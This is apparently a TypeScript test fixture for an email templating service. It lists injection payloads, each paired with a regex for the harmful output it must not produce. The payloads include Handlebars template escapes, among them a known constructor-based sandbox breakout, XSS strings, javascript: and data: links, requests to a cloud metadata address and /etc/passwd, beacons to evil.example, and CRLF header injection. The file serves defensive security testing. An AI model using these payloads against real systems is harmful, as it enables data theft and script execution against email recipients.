/** Attempts to make a template do more than words, for the tests. `{host}` is a web server that counts who asks. */
export interface Payload {
  name: string;
  field: 'subject' | 'body' | 'because';
  text: unknown;
  /** What a reader must not find in the mail, or what it must not become. */
  harm: RegExp;
}

const SECRET = /SECRET/;
const CODE = /function|native code|\[object/i;
const RUNS = /<script|<iframe|<svg|<form|<object|<embed|\son\w+=|javascript:|vbscript:|data:text/i;
const FETCHES = /(?:src|background|poster|srcset)\s*=|url\(|@import|<link|mj-include/i;
const LINKS = /href="(?!https:\/\/|#)[^"]*"|href="https?:\/\/[^"]*(?:evil|@)/i;
const HEADER = /[\r\n\u2028\u2029\0\u0085]/;
const ANY = /./s;

const body = (name: string, text: unknown, harm: RegExp): Payload => ({ name, field: 'body', text, harm });
const subject = (name: string, text: unknown, harm: RegExp): Payload => ({
  name,
  field: 'subject',
  text,
  harm,
});

export const payloads: Payload[] = [
  // Reaching for what is not offered.
  body('a field nobody offers', '{{secret}}', SECRET),
  body('the root', '{{@root.secret}}', SECRET),
  body('this', '{{this.secret}}', SECRET),
  body('a path from here', '{{./secret}}', SECRET),
  body('the parent', '{{#if answered}}{{../secret}}{{/if}}', SECRET),
  body('a name in brackets', '{{[secret]}}', SECRET),
  body('a name in quotes', '{{"secret"}}', SECRET),
  body('a name in single quotes', "{{'secret'}}", SECRET),
  body('an offered object’s other field', '{{area.secret}}', SECRET),
  body('a path with slashes', '{{area/secret}}', SECRET),
  body('lookup', "{{lookup this 'secret'}}", SECRET),
  body('lookup in a subexpression', "{{lookup (lookup this 'area') 'secret'}}", SECRET),
  body('with', '{{#with area}}{{secret}}{{/with}}', SECRET),
  body('each over everything', '{{#each this}}{{this}} {{/each}}', SECRET),
  body('each with names', '{{#each area as |value key|}}{{key}}={{value}} {{/each}}', SECRET),
  body('an inverted block', '{{^missing}}{{secret}}{{/missing}}', SECRET),
  body('a block of a field', '{{#area}}{{secret}}{{/area}}', SECRET),
  body('unless', '{{#unless missing}}{{secret}}{{/unless}}', SECRET),
  body('else if', '{{#if missing}}{{else if secret}}{{secret}}{{/if}}', SECRET),
  body('an inline partial', '{{#*inline "x"}}{{secret}}{{/inline}}{{> x}}', SECRET),
  body('blanks cut away', '{{~secret~}}', SECRET),
  body('three braces', '{{{secret}}}', SECRET),
  body('an ampersand', '{{&secret}}', SECRET),
  body('a raw block', '{{{{raw}}}}{{secret}}{{{{/raw}}}}', /SECRET|\{\{/),
  body('braces made by Markdown', '{\\{secret}}', /SECRET|\{\{/),
  body('braces made by references', '&#123;&#123;secret&#125;&#125;', /SECRET|\{\{/),
  body('braces beside a placeholder', '{{{employer}}}', RUNS),
  body('an escaped tag', '\\{{secret}}', /SECRET|\{\{/),
  body('an escaped backslash', '\\\\{{secret}}', SECRET),
  body('a tag over two lines', '{{\nsecret\n}}', SECRET),
  body('braces of another width', '{{secret}}｛｛secret｝｝', SECRET),
  body('a character nobody sees in a name', '{{sec\u200bret}} {{secret}}', SECRET),
  // Reaching for the program.
  body('constructor', '{{constructor}}', CODE),
  body('constructor of a text', '{{employer.constructor.name}}', /String/),
  body('__proto__', '{{__proto__}}', CODE),
  body('a prototype’s method', '{{employer.toString}}', CODE),
  body('__defineGetter__', '{{__defineGetter__}}', CODE),
  body(
    'the known way out of Handlebars',
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}{{secret}}',
    SECRET,
  ),
  body('helperMissing', '{{helperMissing}}{{secret}}', SECRET),
  body('blockHelperMissing', '{{#blockHelperMissing area}}{{secret}}{{/blockHelperMissing}}', SECRET),
  body('log', '{{log employer level="debug"}}{{secret}}', SECRET),
  body('a partial', '{{> secret}}{{secret}}', SECRET),
  body('a dynamic partial', "{{> (lookup . 'secret')}}{{secret}}", SECRET),
  body('a partial block', '{{#> layout}}{{secret}}{{/layout}}', SECRET),
  body('a decorator', '{{* secret}}{{secret}}', SECRET),
  body('a comment that ends early', '{{!-- }} --}}{{secret}}', SECRET),
  body('a comment with a tag', '{{! <script>alert(1)</script> }}<script>1</script>', RUNS),
  body(
    'a syntax tree',
    {
      type: 'Program',
      body: [
        {
          type: 'MustacheStatement',
          path: { type: 'PathExpression', data: false, depth: 0, parts: ['secret'], original: 'secret' },
          params: [],
          escaped: true,
          strip: {},
          loc: {},
        },
      ],
      strip: {},
      loc: {},
    },
    SECRET,
  ),
  body('a list in place of words', ['{{secret}}'], SECRET),
  body('an object that turns into words', { toString: () => '{{secret}}' }, SECRET),
  // Markup.
  body('a script', '<script>alert(1)</script>', RUNS),
  body('a handler', '<b onclick="alert(1)">x</b>', RUNS),
  body('a script in a comment', '<!-- --><script>1</script>', RUNS),
  body('a frame', '<iframe src="http://{host}/frame"></iframe>', RUNS),
  body('SVG', '<svg onload=alert(1)>', RUNS),
  body('a form', '<form action="https://evil.example"><input name="x"></form>', RUNS),
  body('a broken tag', '<<script>script>alert(1)<</script>/script>', /<script/),
  body('MJML raw', '<mj-raw><script>1</script></mj-raw>', RUNS),
  body('an end of our own element', '</mj-text><mj-raw><script>1</script></mj-raw><mj-text>', RUNS),
  body('an MJML include', '<mj-include path="/etc/passwd" />', /mj-include|root:/),
  body('an MJML include of CSS', '<mj-include path="http://{host}/x.css" type="css" />', FETCHES),
  body('an MJML picture', '<mj-image src="http://{host}/mj" />', FETCHES),
  body('an MJML font', '<mj-font name="x" href="http://{host}/font" />', /mj-font|\{host\}/),
  // Fetching.
  body('a picture of the inside', '<img src=http://169.254.169.254/latest/meta-data>', FETCHES),
  body('a picture in Markdown', '![x](http://{host}/a.png)', FETCHES),
  body('a picture with a placeholder', '![x](https://evil.example/{{link}})', FETCHES),
  body('a picture inside a link', '[![x](http://{host}/a.png)](https://www.example.org)', FETCHES),
  body('a style sheet', '<link rel=stylesheet href="http://{host}/a.css">', FETCHES),
  body('url() in a style', '<p style="background:url(http://{host}/a)">x</p>', FETCHES),
  body('@import', '<style>@import url(http://{host}/a.css)</style>', FETCHES),
  // Links.
  body('a script as a link', '[x](javascript:alert(1))', LINKS),
  body('a script in capitals', '[x](JaVaScRiPt:alert(1))', LINKS),
  body('a script by references', '[x](&#106;avascript:alert(1))', LINKS),
  body('a script with a tab', '[x](<java\tscript:alert(1)>)', LINKS),
  body('data', '[x](data:text/html;base64,PHNjcmlwdD4=)', LINKS),
  body('a file', '[x](file:///etc/passwd)', LINKS),
  body('no encryption', '[x](http://{host}/)', LINKS),
  body('no scheme', '[x](//evil.example/)', LINKS),
  body('backslashes', '[x](https:\\\\evil.example)', LINKS),
  body('another host after a name', '[x](https://www.example.org@evil.example/)', LINKS),
  body('a scheme from a value', '[x]({{employer}}:alert(1))', LINKS),
  body('a value as an address', '[x]({{employer}})', LINKS),
  body('a host from a value', '[x](https://{{employer}}.evil.example/)', LINKS),
  body('a personal link handed on', '[x](https://evil.example/?to={{link}})', LINKS),
  body('a link’s title', '[x](https://www.example.org "a\\" onmouseover=alert(1) x=\\"")', RUNS),
  body('an address in angle brackets', '<javascript:alert(1)>', LINKS),
  body('an address defined elsewhere', '[x][1]\n\n[1]: javascript:alert(1)', LINKS),
  // The subject and the reason.
  subject('a second header', 'Hello\r\nBcc: all@example.org', HEADER),
  subject('a second header by a line feed', 'Hello\nBcc: all@example.org', HEADER),
  subject('a line separator', 'Hello\u2028Bcc: all@example.org', HEADER),
  subject('a next line', 'Hello\u0085Bcc: all@example.org', HEADER),
  subject('a NUL', 'Hello\0there', HEADER),
  subject('text turned round', 'Hello \u202egnp.exe', /\u202e/),
  subject('a field nobody offers', '{{secret}}', SECRET),
  subject('a tree', { type: 'Program', body: [] }, ANY),
  {
    name: 'a script in the reason',
    field: 'because',
    text: 'Because <script>alert(1)</script>',
    harm: /<script>alert/,
  },
  {
    name: 'an element of ours in the reason',
    field: 'because',
    text: 'x</mj-text><mj-image src="http://{host}/b" />',
    harm: /<mj-image|<img/,
  },
  // Too much.
  body('nestings without end', '{{#if answered}}'.repeat(300) + 'SECRET' + '{{/if}}'.repeat(300), SECRET),
  body('too long', 'SECRET '.repeat(4000), SECRET),
  body('too many placeholders', '{{employer}} '.repeat(300), /(?:Aire[^A]*){250}/),
];

/** Values people typed somewhere that look like templates, Markdown or markup. */
export const values: { name: string; value: string; harm: RegExp }[] = [
  { name: 'Handlebars', value: '{{secret}}', harm: SECRET },
  { name: 'three braces', value: '{{{secret}}}', harm: SECRET },
  { name: 'a block', value: '{{#each this}}{{this}}{{/each}}', harm: SECRET },
  { name: 'Markdown', value: '**bold**', harm: /<strong>bold/ },
  { name: 'a link', value: '[x](javascript:alert(1))', harm: /<a [^>]*javascript/ },
  { name: 'a picture', value: '![x](http://{host}/v.png)', harm: /<img/ },
  { name: 'a script', value: '<script>alert(1)</script>', harm: /<script>alert/ },
  { name: 'an end of an attribute', value: '"><script>alert(1)</script>', harm: /"><script>alert/ },
  {
    name: 'an end of our own element',
    value: '</mj-text><mj-image src="http://{host}/w" />',
    harm: /<mj-image|<img/,
  },
  { name: 'a comment', value: '<!-- x', harm: /<!-- x/ },
  { name: 'a picture of the inside', value: '<img src=http://169.254.169.254>', harm: /<img/ },
];
